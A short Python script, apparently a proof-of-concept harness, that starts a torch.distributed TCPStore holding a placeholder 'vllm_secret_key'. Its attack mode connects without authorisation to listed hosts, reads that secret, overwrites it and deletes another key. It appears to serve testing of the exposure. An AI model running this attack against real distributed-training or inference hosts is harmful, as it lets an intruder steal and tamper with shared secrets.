"""A TCPStore of torch.distributed, and somebody who was not asked to it.

serve HOST PORT         keep two keys; each line of standard input prints them as JSON
attack PORT SECS HOST…  read one key, overwrite it, delete the other; print what worked as JSON, a line a host
"""

import datetime
import json
import sys

from torch.distributed import TCPStore

SECRET, OTHER = "vllm_secret_key", "other"


def serve(host, port):
    store = TCPStore(host, int(port), None, True, datetime.timedelta(seconds=5), wait_for_workers=False)
    store.set(SECRET, "marked-secret")
    store.set(OTHER, "kept")
    print("ready", flush=True)
    for _ in sys.stdin:
        state = {k: store.get(k).decode() if store.check([k]) else None for k in (SECRET, OTHER)}
        print(json.dumps(state), flush=True)


def attack(port, seconds, *hosts):
    for host in hosts:
        print(json.dumps(attack_one(host, int(port), float(seconds))), flush=True)


def attack_one(host, port, seconds):
    done = {"connected": False, "get": None, "set": False, "delete": False}
    try:
        store = TCPStore(host, port, None, False, datetime.timedelta(seconds=seconds))
        done["connected"] = True
        done["get"] = store.get(SECRET).decode()
        store.set(SECRET, "overwritten")
        done["set"] = True
        done["delete"] = store.delete_key(OTHER)
    except Exception as e:  # what failed is what is wanted
        done["error"] = str(e).splitlines()[0][:300]
    return done


{"serve": serve, "attack": attack}[sys.argv[1]](*sys.argv[2:])
